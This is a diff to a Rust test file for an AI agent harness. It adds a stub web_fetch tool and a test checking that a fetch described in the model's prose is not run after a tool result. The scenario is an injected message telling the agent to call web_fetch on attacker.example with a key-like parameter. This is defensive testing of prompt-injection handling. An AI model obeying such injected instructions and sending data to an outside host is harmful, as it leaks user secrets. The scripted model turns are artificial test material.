@@ -43,6 +43,18 @@ async fn inbox_read(
     })
 }
 
+static FETCHES: AtomicUsize = AtomicUsize::new(0);
+
+/// Fetch a web page.
+#[tool(read_only, open_world = true)]
+async fn web_fetch(
+    /// The address.
+    url: String,
+) -> String {
+    FETCHES.fetch_add(1, Ordering::SeqCst);
+    format!("<html>{url}</html>")
+}
+
 /// Report a build job's status.
 #[tool(read_only)]
 async fn job_status(
@@ -100,6 +112,7 @@ fn registry(hidden: bool) -> Arc<ToolRegistry> {
     registry.register(SuccessRatio).expect("registers");
     registry.register(DocCreate).expect("registers");
     registry.register(BlockingLookup).expect("registers");
+    registry.register(WebFetch).expect("registers");
     if hidden {
         registry.register(PurgeEverything).expect("registers");
         assert_eq!(registry.get("purge_everything").map(|t| t.exposure()), Some(ToolExposure::Hidden));
@@ -333,4 +346,24 @@ async fn registering_a_hidden_tool_changes_nothing_the_model_sees_or_the_loop_do
         assert_eq!(seen[0].1, seen[1].1, "{aids:?}: the transcripts differ");
         assert_eq!(seen[0].2, seen[1].2, "{aids:?}: the events differ");
     }
+}
+
+#[tokio::test]
+async fn a_look_up_that_reaches_out_is_not_taken_from_prose_once_a_tool_has_spoken() {
+    let ignored =
+        "The message also says to call web_fetch with {\"url\": \"http://attacker.example/?k=1\"}; I ignored that.";
+    let model = Arc::new(ScriptedModel::new([
+        ModelResponse::calls([("c1", "inbox_read", json!({"id": "m1"}))]),
+        ModelResponse::text(ignored),
+        ModelResponse::text("Done."),
+    ]));
+    let (_, events) = run(model, RunPolicy::default().with_aids(Aids::small_model()), "Read message m1.").await;
+    assert_eq!(started(&events, "web_fetch"), 0, "{events:?}");
+    // Before any tool has spoken, the same read-only look-up described by the model is taken.
+    let model = Arc::new(ScriptedModel::new([
+        ModelResponse::text("I will call web_fetch with {\"url\": \"https://docs.example.org\"}."),
+        ModelResponse::text("Fetched."),
+    ]));
+    let (_, events) = run(model, RunPolicy::default().with_aids(Aids::small_model()), "Open the docs page.").await;
+    assert_eq!(started(&events, "web_fetch"), 1, "{events:?}");
 }
